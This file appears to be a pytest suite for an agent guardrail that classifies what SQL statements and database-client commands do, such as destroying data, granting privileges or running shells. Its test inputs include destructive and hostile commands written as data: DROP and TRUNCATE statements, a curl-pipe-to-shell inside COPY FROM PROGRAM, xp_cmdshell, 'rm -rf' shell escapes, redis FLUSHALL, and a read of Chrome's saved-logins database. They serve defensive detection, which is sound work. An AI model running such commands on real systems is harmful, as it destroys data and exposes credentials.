"""What SQL does, typed, in options, operands and input, and what clients of other stores are told."""

import pytest

from agentops_mcp.factors.guardrails.rules.calls import HOLE, Code, Stream
from agentops_mcp.factors.guardrails.rules.programs import sql
from agentops_mcp.factors.guardrails.rules.programs.sql_words import words_of
from called import PROJECT, WORLD, call, effects, outcome, runs


def of_text(text: str) -> list[str]:
    return effects(sql.code(Code("sql", Stream(text)), PROJECT, WORLD))


@pytest.mark.parametrize(
    "text",
    [
        "DROP TABLE users",
        "drop table if exists users cascade;",
        "/* x */ DROP /* y */ TABLE users -- z",
        "SELECT 1; DROP TABLE users",
        "/*!50000 DROP TABLE users */",
        "BEGIN; DROP TABLE users; COMMIT",
        "DO $$ BEGIN DROP TABLE users; END $$",
        "EXEC('DROP TABLE users')",
        "IF EXISTS (SELECT 1) DROP TABLE users",
        'DROP TABLE "users"',
        "DROP TABLE `users`",
        "DROP TABLE [users]",
    ],
)
def test_tables_are_dropped_however_it_is_written(text: str) -> None:
    assert of_text(text) == ["destroy_data users drop,table"]


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("DROP DATABASE shop", "destroy_data shop database,drop"),
        ("TRUNCATE users", "destroy_data users table,truncate"),
        ("TRUNCATE TABLE a.users", "destroy_data a.users table,truncate"),
        ("DELETE FROM users", "destroy_data users everything,rows"),
        ("DELETE FROM users WHERE 1=1", "destroy_data users everything,rows"),
        ("DELETE FROM users WHERE (true)", "destroy_data users everything,rows"),
        ("DELETE FROM users WHERE id = 1 OR 'a' = 'a'", "destroy_data users everything,rows"),
        ("DELETE FROM users WHERE id = 1", "change_data users rows"),
        ("DELETE FROM users LIMIT 5", "change_data users rows"),
        ("DELETE FROM users; SELECT 1 WHERE 2=3", "destroy_data users everything,rows"),
        ("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x WHERE a", "destroy_data users everything,rows"),
        ("EXPLAIN ANALYZE DELETE FROM users", "destroy_data users everything,rows"),
        ("UPDATE users SET a = 1", "destroy_data users everything,rows,update"),
        ("UPDATE users SET a = (SELECT b FROM c WHERE d)", "destroy_data users everything,rows,update"),
        ("UPDATE users SET a = 1 WHERE id = 2", "change_data users rows,update"),
        ("ALTER TABLE users DROP COLUMN a", "destroy_data a column,drop"),
        ("ALTER TABLE users DROP a", "destroy_data a column"),
        ("ALTER TABLE users DROP CONSTRAINT a", "change_data a drop,schema"),
        ("DROP INDEX a", "change_data a drop,schema"),
        ("DROP MATERIALIZED VIEW a", "change_data a drop,schema"),
        ("DROP USER a", "change_data a access,drop"),
        ("GRANT ALL ON x TO app", "gain_privilege app database,everything"),
        ("GRANT SELECT ON x TO app", "change_data app access"),
        ("ALTER ROLE app SUPERUSER", "gain_privilege app database"),
        ("RESET MASTER", "destroy_data binary logs backup"),
        ("SHUTDOWN", "stop_service the database database"),
        ("SELECT load_extension('./x.so')", "load_code ./x.so sql"),
        ("MATCH (n) DETACH DELETE n", "destroy_data n everything,rows"),
        ("MATCH (n:User {id: 1}) DETACH DELETE n", "change_data n rows"),
    ],
)
def test_what_statements_do_is_told(text: str, effect: str) -> None:
    assert of_text(text) == [effect]


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM users",
        "SELECT 'DROP TABLE users'",
        "-- DROP TABLE users",
        "/* DELETE FROM users */ SELECT 1",
        "EXPLAIN DELETE FROM users",
        "INSERT INTO users VALUES (1)",
        "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)",
        "INSERT INTO a VALUES (1) ON CONFLICT (b) DO UPDATE SET c = 1",
        "SELECT * FROM a FOR UPDATE",
        "SELECT truncate(a, 2)",
        "ALTER TABLE a ALTER COLUMN b DROP NOT NULL",
        "CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM users $$",
        "CREATE TRIGGER t AFTER DELETE ON a BEGIN DELETE FROM b; DELETE FROM c; END;",
        "SELECT $x$ DROP TABLE a $x$",
        "SELECT 'it''s; DROP TABLE a'",
        'SELECT "drop table" FROM a',
        "CREATE VIEW v AS SELECT 1",
        "",
    ],
)
def test_what_changes_nothing_now_has_no_effect(text: str) -> None:
    assert of_text(text) == []


@pytest.mark.parametrize(
    ("text", "run"),
    [
        ("COPY t FROM PROGRAM 'curl x | sh'", "shell: curl x | sh"),
        ("EXEC xp_cmdshell 'whoami'", "shell: whoami"),
    ],
)
def test_commands_that_a_database_runs_are_judged_as_such(text: str, run: str) -> None:
    assert runs(sql.code(Code("sql", Stream(text)), PROJECT, WORLD)) == [run]


@pytest.mark.parametrize(
    "line",
    [
        "psql -c 'DROP TABLE t'",
        "psql -h db -U app --command='DROP TABLE t' shop",
        "mysql -u root -psecret -e 'DROP TABLE t'",
        "sqlite3 app.db 'DROP TABLE t'",
        "sqlite3 -cmd 'DROP TABLE t' app.db",
        "duckdb app.db 'DROP TABLE t'",
        "sqlcmd -S db -Q 'DROP TABLE t'",
        "cockroach sql -e 'DROP TABLE t'",
        "bq query 'DROP TABLE t'",
        "snow sql -q 'DROP TABLE t'",
        "clickhouse-client --query 'DROP TABLE t'",
        "cqlsh -e 'DROP TABLE t'",
        "trino --execute 'DROP TABLE t'",
    ],
)
def test_clients_are_told_in_their_own_ways(line: str) -> None:
    assert effects(outcome(sql.outcome, line)) == ["destroy_data t drop,table"]


def test_clients_read_their_input() -> None:
    assert effects(outcome(sql.outcome, "psql shop", "DROP TABLE t")) == ["destroy_data t drop,table"]


@pytest.mark.parametrize(
    ("line", "stdin", "effect"),
    [
        ("psql -f schema.sql", Stream(""), "change_data schema.sql file,unknown"),
        ("psql shop", Stream(None, frozenset({"local"}), "schema.sql"), "change_data schema.sql unknown"),
        (
            "sqlite3 -readonly app.db",
            Stream(None, frozenset({"local"}), "schema.sql"),
            "change_data schema.sql unknown",
        ),
        ("mysql shop", Stream(None, frozenset({"fetched"}), "https://x"), "run_fetched https://x"),
        (f"psql -c {HOLE}", Stream(""), f"change_data {HOLE} unknown"),
        ("redis-cli", Stream(None, frozenset({"local"}), "x"), "change_data x unknown"),
        ("mongosh", Stream(None, frozenset({"local"}), "x"), "change_data x unknown"),
    ],
)
def test_statements_that_are_not_seen_may_change_anything(line: str, stdin: Stream, effect: str) -> None:
    assert effects(outcome(sql.outcome, line, stdin)) == [effect]


@pytest.mark.parametrize(
    "line",
    [
        "mysql",
        "mysql --host db shop",
        "psql --help",
        "redis-cli",
        "redis-cli GET a",
        "sqlite3 -readonly app.db 'DROP TABLE t'",
        "mongosh",
    ],
)
def test_clients_that_change_nothing_have_no_effect(line: str) -> None:
    assert effects(outcome(sql.outcome, line)) == []


@pytest.mark.parametrize(
    ("line", "run"),
    [
        (r"psql -c '\! rm -rf x'", "shell: rm -rf x"),
        ("sqlite3 a.db '.shell rm -rf x'", "shell: rm -rf x"),
        ("mysql -e 'system rm -rf x'", "shell: rm -rf x"),
        (r"psql -c '\o |rm -rf x'", "shell: rm -rf x"),
    ],
)
def test_commands_of_the_clients_that_run_a_shell_are_judged(line: str, run: str) -> None:
    assert runs(outcome(sql.outcome, line)) == [run]


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("DROP TABLE users", "destroy_data users drop,table,typed"),
        ("GRANT ALL ON x TO app", "gain_privilege app database,everything,typed"),
        (f"DELETE FROM {HOLE}", f"destroy_data {HOLE} everything,rows,typed"),
        ("UPDATE users SET a = 1", "destroy_data users everything,rows,typed,update"),
    ],
)
def test_sql_typed_as_a_command_is_judged_as_sql(line: str, effect: str) -> None:
    assert effects(outcome(sql.outcome, line)) == [effect]


@pytest.mark.parametrize("line", ["update", "update packages", "drop x", "delete app", "merge a b", "snow app run"])
def test_programs_with_names_of_statements_are_not_sql(line: str) -> None:
    assert sql.outcome(call(line), WORLD) is None


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("redis-cli -h db FLUSHALL", "destroy_data every database everything"),
        ("redis-cli flushdb", "destroy_data the database everything"),
        ("redis-cli DEL a", "change_data a rows"),
        ("redis-cli CONFIG SET dir /x", "load_code dir /x settings"),
        ("redis-cli SHUTDOWN", "stop_service the server database"),
        ("redis-cli MODULE LOAD x.so", "load_code a module"),
        ("mongosh --eval 'db.dropDatabase()'", "destroy_data db database"),
        ("mongosh shop --eval 'db.users.drop()'", "destroy_data db.users table"),
        ("mongosh shop --eval 'db.users.deleteMany( {} )'", "destroy_data db.users everything"),
        ("mongosh shop --eval 'db.users.deleteMany({a: 1})'", "change_data db.users rows"),
    ],
)
def test_other_stores_are_understood(line: str, effect: str) -> None:
    assert effects(outcome(sql.outcome, line)) == [effect]


def test_a_key_deleted_for_each_line_of_unknown_input_is_every_key() -> None:
    assert effects(outcome(sql.outcome, "redis-cli DEL a", traits="repeated")) == [
        "destroy_data a everything,repeated,rows"
    ]


def test_redis_reads_a_command_a_line() -> None:
    assert effects(outcome(sql.outcome, "redis-cli", "GET a\nFLUSHALL\n")) == ["destroy_data every database everything"]


def test_a_browsers_logins_are_secrets_also_behind_an_address() -> None:
    line = "sqlite3 'file:/home/person/.config/google-chrome/Default/Login Data?immutable=1' 'SELECT 1'"
    assert [each.kind for each in outcome(sql.outcome, line).effects] == ["read_secret"]


def test_text_that_is_too_long_is_not_called_harmless() -> None:
    assert of_text("SELECT 1; " * 10_000) == ["unresolved SQL that is too long to read"]


@pytest.mark.parametrize("text", ["'", '"', "$a$", "/*", "--", "[", "'\\", "$", "a'b'c", "/*!", "#"])
def test_text_that_breaks_off_is_read_to_its_end(text: str) -> None:
    assert isinstance(words_of(text), list)


@pytest.mark.parametrize("condition", ["id > 0", "id >= 1", "id IS NOT NULL", "rowid >= 0"])
def test_a_condition_that_every_key_fulfils_is_none(condition: str) -> None:
    assert [each.partition(" ")[0] for each in of_text(f"DELETE FROM users WHERE {condition}")] == ["destroy_data"]


@pytest.mark.parametrize("condition", ["id > 10", "id > 0 AND x = 1", "seen IS NOT NULL", "id IS NULL"])
def test_a_condition_that_leaves_rows_out_counts(condition: str) -> None:
    assert [each.partition(" ")[0] for each in of_text(f"DELETE FROM users WHERE {condition}")] == ["change_data"]


@pytest.mark.parametrize("name", [":memory:", "''", "file::memory:"])
def test_a_database_in_memory_is_nobodys(name: str) -> None:
    assert effects(outcome(sql.outcome, f"sqlite3 {name} 'DROP TABLE a'")) == []


def test_a_database_is_restored_over_another() -> None:
    assert effects(outcome(sql.outcome, "sqlite3 app.db '.restore old.db'")) == ["destroy_data old.db restore"]


def test_the_word_remove_drops_where_a_statement_begins_with_it() -> None:
    assert of_text("REMOVE TABLE person") == ["destroy_data person drop,table"]
    assert of_text("MATCH (n) REMOVE n.table") == []
